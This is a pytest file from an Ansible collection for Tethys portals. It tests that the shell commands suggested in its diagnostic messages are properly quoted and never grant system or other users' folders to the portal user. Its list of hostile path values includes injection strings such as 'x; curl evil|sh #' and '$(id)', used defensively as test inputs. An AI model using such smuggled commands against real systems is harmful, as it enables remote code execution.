# Copyright: (c) 2026, tethys.channels contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Every command in a message is what a shell reads as the words that were meant, whatever a value holds."""

from __future__ import annotations

import ast
import itertools
import re
import shlex
from functools import partial
from pathlib import Path
from typing import Any
from unittest.mock import Mock

import pytest
import yaml
from ansible_collections.tethys.channels.plugins.module_utils.delivery.check import Check
from ansible_collections.tethys.channels.plugins.module_utils.engines import DockerEngine
from ansible_collections.tethys.channels.plugins.module_utils.server.accounts import Account, account_of
from ansible_collections.tethys.channels.plugins.modules import layer_packages
from ansible_collections.tethys.channels.plugins.plugin_utils.decide.portal import Portal
from ansible_collections.tethys.channels.plugins.plugin_utils.decide.redis import Redis
from ansible_collections.tethys.channels.plugins.plugin_utils.decide.sentinel import quorum_reasons
from ansible_collections.tethys.channels.plugins.plugin_utils.model import Facts, Inputs, texts
from hypothesis import given
from hypothesis import strategies as st

ROOT = Path(__file__).parents[4]
HOME, PREFIX = "/var/lib/tethys", "/opt/conda/envs/tethys"
HOSTILE = [f"{HOME}/{name}" for name in ("x; curl evil|sh #", "$(id)", "a b", "'\"", "-rf", "*", "~", "a&&b")]
# Whatever an app or a person can have in a name and that prints.
NAMES = st.text(
    alphabet=st.characters(blacklist_categories=("C", "Zl", "Zp", "Zs"), blacklist_characters="`"), min_size=1
)


def look(**portal: Any) -> Portal:
    """What was found of a portal."""
    asked = {"tethys_home": HOME, "tethys_conda_prefix": PREFIX, "tethys_user": "", "tethys_layer_backend": "core",
             "tethys_layer_hosts": [], "tethys_layer_redis": ["a"]}  # fmt: skip
    found = {"server": {"root": True}, "portal": {"user": "www-data", "versions": {"tethys_platform": "4"}, **portal}}
    return Portal(Inputs.given(asked, {"goal": "site"}, found), Facts.given(found))


def commands(reasons: list[str]) -> list[list[str]]:
    """The words of the commands in these messages."""
    return [shlex.split(command) for reason in reasons for command in re.findall("`(.*?)`", reason, re.DOTALL)]


def access(path: str, need: str, **more: Any) -> list[list[str]]:
    """The commands that give the portal's user a right."""
    row = {"path": path, "need": need, "ok": False, "blocked_by": path, "owner": "root", **more}
    found = look(access=[row])
    found.portal_reasons()
    return commands(texts(found.problems))


@pytest.mark.parametrize("path", HOSTILE)
def test_a_path_of_an_app(path: str) -> None:
    assert access(path, "write") == [["setfacl", "-m", "u:www-data:rwX", path], ["chown", "-h", "www-data", path]]
    assert access(path, "read") == [["setfacl", "-m", "u:www-data:r", path]]


@given(NAMES)
def test_any_path_of_an_app(name: str) -> None:
    path = f"{HOME}/x/{name}"
    if "/../" in f"{path}/":
        return
    assert access(path, "read") == [["setfacl", "-m", "u:www-data:r", path]]


# Where an app can have MEDIA_ROOT, its database or its workspaces.
OF_OTHERS = ["/var/spool/cron/crontabs", "/var/lib/docker", "/home/bob/.ssh", "/srv/media", f"{HOME}2", f"{HOME}/../x"]
SHARED = ["/", "/etc", "/etc/", "/usr", "/var", "/home", "/tmp", "/opt", "/srv", "/var/log", "/run", "/root", "//etc"]


@pytest.mark.parametrize("path", [*SHARED, *OF_OTHERS, "/etc/cron.d", "/usr/lib/x", "/srv/../etc", "relative", "-R"])
def test_no_command_gives_a_folder_of_the_system_or_of_others_away(path: str) -> None:
    assert access(path, "write") == []
    assert access(f"{path}/x", "write", blocked_by=path) == []
    row = {"folder": path, "owner": "root", "uid": 0, "count": 2, "example": f"{path}/x"}
    assert commands(texts(look(leftovers=[row]).leftover_reasons("root"))) == []


def test_a_link_of_an_app_is_judged_by_what_it_leads_to() -> None:
    assert access(f"{HOME}/media", "write", real="/etc") == []
    assert access(f"{HOME}/media", "write", real="/srv/media") == []
    [first, _second] = access(f"{HOME}/media", "write", real=f"{HOME}/other")
    assert first[-1] == f"{HOME}/other"
    row = {"folder": f"{HOME}/media", "owner": "root", "uid": 0, "count": 1, "example": "x", "real": "/etc"}
    assert commands(texts(look(leftovers=[row]).leftover_reasons("root"))) == []


def test_what_the_administrator_named_may_be_given() -> None:
    prefix = "/usr/local/conda/envs/tethys"
    found = look(access=[{"path": f"{prefix}/bin", "need": "read", "ok": False, "blocked_by": None, "owner": "root"}])
    found.asked = {**found.asked, "tethys_conda_prefix": prefix}
    found.portal_reasons()
    assert commands(texts(found.problems)) == [["setfacl", "-m", "u:www-data:r", f"{prefix}/bin"]]


def test_a_folder_on_the_way_may_be_entered_and_no_more() -> None:
    folder = "/home/alice"
    found = look(access=[{"path": f"{folder}/t", "need": "read", "ok": False, "blocked_by": folder, "owner": "alice"}])
    found.asked = {**found.asked, "tethys_home": f"{folder}/t"}
    found.portal_reasons()
    assert commands(texts(found.problems)) == [["setfacl", "-m", "u:www-data:x", folder]]
    found.problems.clear()
    found.portal = {**found.portal, "access": [{**found.portal["access"][0], "path": folder, "need": "write"}]}
    found.portal_reasons()
    assert commands(texts(found.problems)) == []


@pytest.mark.parametrize("folder", HOSTILE)
def test_what_root_left_in_a_folder(folder: str) -> None:
    row = {"folder": folder, "owner": "root", "uid": 0, "count": 2, "example": f"{folder}/x"}
    [words] = commands(texts(look(leftovers=[row]).leftover_reasons("root")))
    assert words == ["find", folder, "-user", "root", "-execdir", "chown", "-h", "www-data", "{}", "+"]


@given(NAMES)
def test_the_name_of_a_container(name: str) -> None:
    assert shlex.split(DockerEngine.logs(name)) == ["docker", "logs", name]
    container = {"name": name, "running": True, "labels": {"tethys.channels.config": "1"}}
    found = Redis(look().inputs, Facts(server={"root": True, "container": container}))
    found.redis_reasons()
    assert commands(found.announce) == [["docker", "rm", "-f", name]]


@given(NAMES)
def test_the_environment_of_pip(name: str) -> None:
    environment = Mock(prefix=f"/srv/{name}", python=f"/srv/{name}/bin/python")
    environment.as_typed = partial(layer_packages.Environment.as_typed, environment)
    owners = ((account_of(0), []), (Account("alice", 1000, 1000, "/"), ["sudo", "-u", "alice"]))
    asked = ((None, ["-m", "ensurepip"]), ("21", ["-m", "pip", "install", "--upgrade", "pip>=22.2"]))
    for (environment.owner, as_owner), (version, words) in itertools.product(owners, asked):
        with pytest.raises(layer_packages.Failed) as failed:
            layer_packages.plan(environment, {}, {"pip": version})
        found = commands([str(failed.value).replace(environment.prefix + " ", "")])
        assert found == [[*as_owner, environment.python, *words]]


@given(NAMES)
def test_the_name_in_the_environment_of_a_process(name: str) -> None:
    process = Mock(log=None, supervisor_name=name, pid=0)
    assert commands([Check.log_of(Mock(), process)]) == [["supervisorctl", "tail", name]]


@given(NAMES)
def test_the_name_of_a_sentinel(name: str) -> None:
    server = {"sentinel_container": {"name": name}}
    look = {
        "__preflight_found": {
            "server": server,
            "sentinel": {"problem": "is silent", "problem_code": "silent"},
        },
    }
    servers = [{"name": each} for each in "abc"]
    reasons = texts(quorum_reasons(servers, dict.fromkeys("abc", look), name))
    assert commands(reasons) == [["docker", "start", name]]


# --- no other place ---------------------------------------------------------------------------------------------------

COMMANDS = re.compile(
    r"[`'](chown|chmod|setfacl|rm|mv|cp|ln|find|docker|podman|supervisorctl|systemctl|journalctl|kill|pip|tethys|ansible)\b[^`']*$"
)
# Numbers only.
NUMBERS = {"`kill -CONT "}


def test_no_message_of_python_pastes_a_value_into_a_command() -> None:
    """A command begins with a backtick or quote in a constant of an f-string; what follows it must not be a value."""
    found = []
    for path in sorted((ROOT / "plugins").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.JoinedStr):
                continue
            for before, value in zip(node.values, node.values[1:]):
                if isinstance(before, ast.Constant) and isinstance(value, ast.FormattedValue):
                    match = COMMANDS.search(str(before.value))
                    if match and match.group(0) not in NUMBERS:
                        found.append(f"{path.name}:{node.lineno}: {match.group(0)}")
    assert found == []


def test_no_message_of_a_role_pastes_a_value_into_a_command() -> None:
    found = []
    for path in sorted((ROOT / "roles").glob("*/tasks/*.yml")):
        text = path.read_text(encoding="utf-8")
        assert yaml.safe_load(text) is not None
        for command in re.findall(r"`((?:chown|chmod|docker|podman|ansible|systemctl)\b[^`\n]*)`", text):
            values = re.findall(r"\{\{(.*?)\}\}", command)
            found += [f"{path.parent.parent.name}/{path.name}: {value}" for value in values if "| quote" not in value]
    assert found == []
